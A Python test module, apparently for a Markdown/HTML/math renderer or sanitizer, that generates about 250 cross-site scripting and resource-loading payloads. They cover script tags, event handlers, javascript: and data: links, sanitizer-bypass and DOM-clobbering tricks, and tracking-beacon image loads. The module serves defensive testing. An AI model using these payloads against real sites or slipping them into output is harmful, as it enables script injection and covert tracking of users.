"""What a hostile model, file or notebook may write: none of it may run, or fetch anything.

`JS` stands for a script that would be seen, `URL` for an address that counts who asks for it.
"""

from typing import Final

JS: Final = "window.owned=1"

_SCRIPTS: Final = (
    "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>", "<script src={url}></script>",
    "<script\n>{js}</script\n>", "<script/x>{js}</script>", "</script><script>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>", "<script>{js}//", "--><script>{js}</script>",
    "]]><script>{js}</script>", "<noscript><p title='</noscript><script>{js}</script>'>",
    "<template><script>{js}</script></template>", "<plaintext><script>{js}</script>",
    "<script type=module>{js}</script>", "<script type=importmap>{{}}</script>",
    "<title><script>{js}</script></title>", "<textarea></textarea><script>{js}</script>",
    "<xmp><script>{js}</script></xmp>", "<style></style><script>{js}</script>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
)  # fmt: skip
_HANDLERS: Final = tuple(
    f"<{tag} {handler}={quote}{{js}}{quote}>x</{tag.split()[0]}>"
    for tag, handler in (
        ("img src=x", "onerror"), ("body", "onload"), ("svg", "onload"), ("details open",
        "ontoggle"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("marquee", "onstart"),
        ("iframe", "onload"), ("object data=x", "onerror"), ("embed src=x", "onerror"),
        ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("a tabindex=1", "onfocus"),
        ("div style='animation:a 1s'", "onanimationstart"), ("p", "onpointerenter"),
        ("button autofocus", "onfocus"), ("math", "onmouseover"),
    )
    for quote in ('"', "'", "")
)  # fmt: skip
_LINKS: Final = (
    "[x](javascript:{js})", "[x](JaVaScRiPt:{js})", "[x](java\tscript:{js})",
    "[x](&#106;avascript:{js})",
    "[x](javascript&colon;{js})", "[x](data:text/html,<script>{js}</script>)", "[x](vbscript:{js})",
    "[x](<javascript:{js}>)", "<javascript:{js}>", "[x]: javascript:{js}\n\n[x]",
    "<a href='javascript:{js}'>x</a>", "<a href=' javascript:{js}'>x</a>",
    "<a href='\x01javascript:{js}'>x</a>", "<a ping={url} href={url}>x</a>",
    "<area href=javascript:{js}>", "<base href={url}>", "<form action=javascript:{js}><button>x",
    "<button formaction=javascript:{js}>x</button>", "<a href=x target=_parent>x</a>",
    "<a xlink:href='javascript:{js}'>x</a>", "[x](file:///etc/passwd)", "[x](blob:{url})",
)  # fmt: skip
_LOADING: Final = (
    "![x]({url})", "![x](<{url}>)", "![x]\n\n[x]: {url}", "[![x]({url})]({url})",
    "<img src={url}>", "<img srcset='{url} 2x'>", "<picture><source srcset={url}><img></picture>",
    "<video poster={url}></video>", "<video src={url} autoplay></video>",
    "<audio src={url} autoplay>",
    "<source src={url}>", "<track src={url}>", "<iframe src={url}></iframe>", "<embed src={url}>",
    "<object data={url}></object>", "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=dns-prefetch href={url}>", "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>", "<p style='background:url({url})'>x</p>",
    "<table background={url}><tr><td>x</table>", "<body background={url}>",
    "<input type=image src={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>", "<frameset><frame src={url}></frameset>",
    "<div style='list-style-image:url({url})'>x</div>", "<q cite={url}>x</q>",
    "<svg><image href={url} /></svg>", "<svg><use href='{url}#x' /></svg>",
    "<svg><feImage href={url} /></svg>", "<bgsound src={url}>", "<img dynsrc={url}>",
    "<p style='width:expression({js})'>x</p>", "<div style='content:url({url})'>x</div>",
    "```mermaid\ngraph TD; a[<img src={url}>] --> b\n```", "```html\n<img src={url}>\n```",
)  # fmt: skip
_SVG_AND_MATH: Final = (
    "<svg><script>{js}</script></svg>", "<svg><script href={url} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><a href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{js}></svg>",
    "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
    "<svg></p><style><a title='</style><img src=x onerror={js}>'>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<math><mi xlink:href='javascript:{js}'>x</mi></math>",
    "<math><maction actiontype='statusline#{url}' xlink:href='javascript:{js}'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>{js}</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={js}>'>",
    "$\\href{{javascript:{js}}}{{x}}$", "$$\\unicode{{<img src=x onerror={js}>}}$$",
    "$\\style{{background:url({url})}}{{x}}$", "$\\class{{x}}{{y}}$", "\\(\\require{{html}}x\\)",
    "$\\def\\x{{\\x}}\\x$", "$a<img src={url}>b$", "$$<script>{js}</script>$$",
    "\\begin{{a}}<img src=x onerror={js}>\\end{{a}}", "$\\text{{</span><img src={url}>}}$",
)  # fmt: skip
_MARKDOWN: Final = (
    "`<script>{js}</script>`", "```\n</code></pre><script>{js}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={js}> |", "> <img src=x onerror={js}>",
    "- <img src=x onerror={js}>", "# <img src=x onerror={js}>", "[<img src=x onerror={js}>](x)",
    '[x](https://a "<img src=x onerror={js}>")', "[^1]\n\n[^1]: <img src=x onerror={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;", "<!-- --><img src=x onerror={js}>",
    "<![CDATA[<img src=x onerror={js}>]]>", "<?xml version='1.0'?><script>{js}</script>",
    "@@0@@<img src=x onerror={js}>", "<p id=jupyter-config-data>{{}}</p>",
    "<form id=getElementById></form>", "<a id=jupyterapp name=jupyterapp>x</a>",
    "\u202e<img src=x onerror={js}>", "<img/src=x/onerror={js}>", "<img src=x onerror\n=\n{js}>",
    '<img src="x` `" onerror={js}>', "<<img src=x onerror={js}>",
    "<img src=x:x onerror\u2028={js}>",
    "中文<img src=x onerror={js}>🦊",
)  # fmt: skip


def payloads(url: str) -> list[str]:
    """Return all of them, each with an address of its own."""
    families = (_SCRIPTS, _HANDLERS, _LINKS, _LOADING, _SVG_AND_MATH, _MARKDOWN)
    listed = [text for family in families for text in family]
    return [text.format(js=JS, url=f"{url}/{n}") for n, text in enumerate(listed)]
